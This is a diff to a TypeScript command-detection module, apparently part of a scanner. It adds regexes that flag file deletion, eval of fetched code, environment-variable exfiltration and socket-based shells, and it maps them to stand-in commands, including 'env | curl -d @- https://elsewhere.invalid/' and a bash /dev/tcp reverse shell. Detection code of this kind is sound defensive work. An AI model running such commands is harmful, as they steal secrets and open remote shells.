@@ -17,6 +17,17 @@ const MAX_LINES = 1024;
 const SHELL_LINE_REGEXP = /^[ \t]*(?:!|%s[xc][ \t]|%system[ \t])(.+)$|\bdo shell script "((?:\\[^]|[^"\\]){0,4096})"/gm;
 const CALL_REGEXP =
   /\b(?:system|popen\d?|exec\w*|spawn\w*|run|call|check_output|check_call|getoutput|getstatusoutput|shell_exec|passthru|proc_open|Command|create_subprocess_shell|sh|bash)\s*\(\s*(\[?)\s*(?=[frbu]{0,2}["'`])/gi;
+/** The same without brackets, as Ruby and Perl write it. */
+const BARE_CALL_REGEXP = /(?:^|[\s;({])(?:system|exec|spawn)\s+(?=["'])/g;
+/** What other languages call what these commands do. */
+const REMOVING_REGEXP =
+  /\b(?:shutil\.rmtree|rmSync|rmdirSync|fs\.rm|rmdir|rm_rf|remove_tree|Deno\.remove(?:Sync)?|FileUtils\.rm_r\w*|os\.RemoveAll)\s*\(\s*(["'`])((?:(?!\1)[^\\]){1,4096})\1/g;
+const EVALUATING_REGEXP =
+  /\b(?:exec|eval)\s*\([^\n]{0,200}?(?:urlopen|requests\.get|fetch)\s*\(\s*["'`](https?:[^"'`]{1,2048})|\b(?:urlopen|requests\.get|fetch)\s*\(\s*["'`](https?:[^"'`]{1,2048})["'`][^\n]{0,200}?\b(?:exec|eval)\b|\bimport\s*\(\s*["'`](https?:[^"'`]{1,2048})/g;
+const ENVIRONMENT_REGEXP = /\b(?:os\.environ|process\.env|Deno\.env\.toObject\(\)|ENV\.to_h)(?!\s*[[.]\s*["'\w])/;
+const POSTING_REGEXP = /\b(?:requests\.(?:post|put)|urlopen|fetch|axios|http\.request|httpx\.)/;
+const SOCKET_REGEXP = /\bsocket\b/i;
+const SHELL_FOR_OTHERS_REGEXP = /\bdup2\b|\/bin\/(?:ba|z)?sh\b|\bcmd\.exe\b|\bpty\.spawn\b/i;
 const LITERAL_REGEXP = /[frbu]{0,2}(["'`])((?:\\[^]|(?!\1)[^\\]){0,4096})\1\s*(,?)\s*/iy;
 
 /** The texts that code hands to a shell or starts as a program, in so many words. */
@@ -26,23 +37,52 @@ export function commandsInCode(code: string): readonly string[] {
   for (const call of code.matchAll(CALL_REGEXP)) {
     if (found.length >= MAX_LITERALS || ++calls > MAX_CALLS) break;
     const words: string[] = [];
-    let isInList = false;
+    // A program and its arguments as they are, without a list around them.
+    let isInList = /\bCommand\s*\(\s*$/.test(call[0]) &&
+      !/Deno\.$/.test(code.slice(Math.max(0, call.index - 5), call.index));
     LITERAL_REGEXP.lastIndex = call.index + call[0].length;
     for (let literal = LITERAL_REGEXP.exec(code); literal !== null; literal = LITERAL_REGEXP.exec(code)) {
       words.push((literal[2] ?? "").replace(/\\(["'`\\])/g, "$1").replaceAll("\\n", "\n"));
       if (literal[3] !== "," || words.length >= MAX_LITERALS) break;
       if (call[1] === "[" || isInList) continue;
       // Without a list only the first is a command; a list behind it are its arguments, and what else follows options.
-      if (code.charAt(LITERAL_REGEXP.lastIndex) !== "[") break;
+      LIST_REGEXP.lastIndex = LITERAL_REGEXP.lastIndex;
+      if (!LIST_REGEXP.test(code)) break;
       isInList = true;
-      LITERAL_REGEXP.lastIndex++;
-      while (/\s/.test(code.charAt(LITERAL_REGEXP.lastIndex))) LITERAL_REGEXP.lastIndex++;
+      LITERAL_REGEXP.lastIndex = LIST_REGEXP.lastIndex;
     }
     if (words.length > 0) found.push(words.join(" "));
   }
+  found.push(...meantByCode(code));
   for (const [, line, script] of code.matchAll(SHELL_LINE_REGEXP)) {
     if (found.length >= MAX_LINES) break;
     found.push(line ?? (script ?? "").replace(/\\(["\\])/g, "$1"));
+  }
+  return found;
+}
+
+/** A list of arguments behind a program, by itself or as an option. */
+const LIST_REGEXP = /(?:\{\s*args\s*:\s*)?\[\s*/y;
+
+/** Commands that do what the code does in its own words. */
+function meantByCode(code: string): readonly string[] {
+  const found: string[] = [];
+  for (const [, , path = ""] of code.matchAll(REMOVING_REGEXP)) {
+    if (found.length < MAX_LITERALS) found.push(`rm -rf ${quoted(path)}`);
+  }
+  for (const [, first, second, third] of code.matchAll(EVALUATING_REGEXP)) {
+    if (found.length < MAX_LITERALS) found.push(`curl ${quoted(first ?? second ?? third ?? "")} | python3`);
+  }
+  for (const { index, 0: call } of code.matchAll(BARE_CALL_REGEXP)) {
+    LITERAL_REGEXP.lastIndex = index + call.length;
+    const literal = LITERAL_REGEXP.exec(code)?.[2];
+    if (literal !== undefined && found.length < MAX_LITERALS) found.push(literal);
+  }
+  if (ENVIRONMENT_REGEXP.test(code) && POSTING_REGEXP.test(code)) {
+    found.push("env | curl -d @- https://elsewhere.invalid/");
+  }
+  if (SOCKET_REGEXP.test(code) && SHELL_FOR_OTHERS_REGEXP.test(code)) {
+    found.push("bash -i >& /dev/tcp/elsewhere.invalid/1 0>&1");
   }
   return found;
 }
